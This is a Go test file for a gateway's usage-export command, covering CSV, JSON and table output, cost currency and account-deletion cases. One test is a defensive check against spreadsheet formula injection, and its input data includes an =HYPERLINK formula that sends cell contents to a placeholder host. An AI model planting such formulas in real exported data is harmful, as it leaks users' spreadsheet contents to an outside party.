package main

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"veil/extproc/account"
	"veil/extproc/money"
	"veil/extproc/quota"
	"veil/extproc/store/sqlite"
)

// used makes a store in which one key of one account has used two models in November 2026, and says where it is.
func used(t *testing.T, currency string) (state string, key account.Key) {
	t.Helper()
	ctx := t.Context()
	state = t.TempDir()
	at := time.Date(2026, 11, 30, 23, 59, 59, 0, time.UTC)
	s, err := sqlite.Open(ctx, sqlite.Config{Path: filepath.Join(state, "veil.db"), Counters: true, Now: func() time.Time { return at }})
	if err != nil {
		t.Fatal(err)
	}
	admin := account.Admin{Store: s}
	if err := account.EnsurePlans(ctx, s, nil); err != nil {
		t.Fatal(err)
	}
	a, err := admin.CreateAccount(ctx, "acme", "enterprise", account.Overrides{})
	if err != nil {
		t.Fatal(err)
	}
	if key, _, err = admin.CreateKey(ctx, account.Key{Account: a.ID, Name: `build, "server"`, Scopes: account.AllScopes}); err != nil {
		t.Fatal(err)
	}
	for i, model := range []string{"a-model", "b-model", "b-model"} {
		c := quota.Call{ID: string(rune('0' + i)), Account: a.ID, Key: key.ID, Limits: account.NoLimits(), Full: true}
		v, err := s.Admit(ctx, c)
		if err != nil {
			t.Fatal(err)
		}
		s.Settle(quota.Settled{Call: c, Admitted: v.At, Model: model, Prompt: 10, Completion: 3, Cost: money.Amount(1), Outcome: quota.Done, Estimated: i == 2})
	}
	if currency != "" {
		if err := s.SetCurrency(ctx, currency); err != nil {
			t.Fatal(err)
		}
	}
	if err := s.Close(ctx); err != nil {
		t.Fatal(err)
	}
	return state, key
}

// asked is what `veil usage` writes.
func asked(t *testing.T, c usageCmd) (out, errs string) {
	t.Helper()
	var o, e bytes.Buffer
	c.Month = "2026-11"
	if err := c.Run(context.Background(), stdio{out: &o, err: &e}); err != nil {
		t.Fatal(err)
	}
	return o.String(), e.String()
}

func TestUsageIsExportedToTheLastUnit(t *testing.T) {
	state, key := used(t, "EUR")
	at := storeFlags{State: state}
	text, _ := asked(t, usageCmd{storeFlags: at, CSV: true})
	lines, err := csv.NewReader(strings.NewReader(text)).ReadAll()
	if err != nil || len(lines) != 3 {
		t.Fatalf("%v: %s", err, text)
	}
	want := []string{"2026-11-30", "acme", key.Account, key.ID, `build, "server"`, "b-model", "2", "0", "1", "20", "6", "0.0000000002", "EUR"}
	if got := strings.Join(lines[2], "|"); got != strings.Join(want, "|") || len(lines[0]) != len(want) {
		t.Errorf("the line is %s", got)
	}
	text, _ = asked(t, usageCmd{storeFlags: at, JSON: true, Account: "acme"})
	var doc struct {
		Month, Currency string
		Total           struct {
			Requests int
			Cost     json.Number
		}
		Models, Keys, Days, Accounts []struct {
			Name string
			Cost json.Number
		}
	}
	if err := json.Unmarshal([]byte(text), &doc); err != nil {
		t.Fatal(err)
	}
	if doc.Month != "2026-11" || doc.Currency != "EUR" || doc.Total.Requests != 3 || doc.Total.Cost != "0.0000000003" || len(doc.Models) != 2 ||
		doc.Models[1].Cost != "0.0000000002" || len(doc.Keys) != 1 || len(doc.Days) != 1 || doc.Accounts[0].Name != "acme" {
		t.Errorf("the document is %s", text)
	}
	if text, _ := asked(t, usageCmd{storeFlags: at}); !strings.Contains(text, "0.0000000003") || !strings.Contains(text, "costs in EUR") {
		t.Errorf("the table is %s", text)
	}
}

// A spreadsheet opens the file, and what somebody has called a key must not reckon in it.
func TestNoNameIsAFormulaInASpreadsheet(t *testing.T) {
	for name, want := range map[string]string{
		`=HYPERLINK("http://x.example/?"&A1)`: `'=HYPERLINK("http://x.example/?"&A1)`, "+1": "'+1", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1",
		"build": "build", "a=1": "a=1", "": "", "'=1": "'=1", "ünter": "ünter",
	} {
		var b bytes.Buffer
		u := usageView{Rows: []usageRow{{Date: "2026-11-30", AccountName: name, KeyName: name, Row: quota.Row{Cost: -1}}}}
		if err := u.csv(&b); err != nil {
			t.Fatal(err)
		}
		lines, err := csv.NewReader(&b).ReadAll()
		if err != nil || len(lines) != 2 || lines[1][1] != want || lines[1][4] != want || strings.HasPrefix(lines[1][11], "'") {
			t.Errorf("%q: %q, %v", name, lines, err)
		}
	}
}

func TestUsageIsShownWhileTheCatalogueIsBroken(t *testing.T) {
	for currency, told := range map[string]bool{"CHF": true, "": false} {
		state, _ := used(t, currency)
		catalogue, config := filepath.Join(state, "models.yaml"), filepath.Join(state, "veil.yaml")
		for file, text := range map[string]string{catalogue: "models: [{id: ", config: "catalogue: " + catalogue + "\nstore: {sqlite: " + filepath.Join(state, "veil.db") + "}\n"} {
			if err := os.WriteFile(file, []byte(text), 0o600); err != nil {
				t.Fatal(err)
			}
		}
		out, errs := asked(t, usageCmd{storeFlags: storeFlags{Config: config}})
		if !strings.Contains(out, "0.0000000003") || strings.Contains(out, "costs in CHF") != told {
			t.Errorf("currency %q: the table is %s", currency, out)
		}
		if strings.HasPrefix(errs, "warning: the currency is not known") == told {
			t.Errorf("currency %q: the warning is %q", currency, errs)
		}
	}
}

func TestUsageOfADeletedAccountIsUnderItsID(t *testing.T) {
	state, key := used(t, "EUR")
	told := ok(t, "account", "delete", "acme", "--state", state)
	if !strings.Contains(told, "veil usage --account "+key.Account) {
		t.Errorf("deleting says %s", told)
	}
	if out := ok(t, "usage", "--state", state, "--month", "2026-11", "--account", key.Account); !strings.Contains(out, "b-model") {
		t.Errorf("by id:\n%s", out)
	}
	if _, errs, exit := veil(t, "usage", "--state", state, "--account", "acme"); exit != 1 || !strings.Contains(errs, "under its id") {
		t.Errorf("by name: exit %d: %s", exit, errs)
	}
}

func TestAModelThatTheCatalogueLacksIsWarnedOf(t *testing.T) {
	state, _ := used(t, "EUR")
	for _, line := range [][]string{
		{"key", "create", "--account", "acme", "--models", "qwen3-32b,nosuch", "--state", state},
		{"account", "set", "acme", "--models", "qwen3-32b,nosuch", "--state", state},
	} {
		if _, errs, exit := veil(t, line...); exit != 0 || !strings.Contains(errs, `no model "nosuch"`) || strings.Contains(errs, `"qwen3-32b"`) {
			t.Errorf("%v: exit %d: %s", line, exit, errs)
		}
	}
}
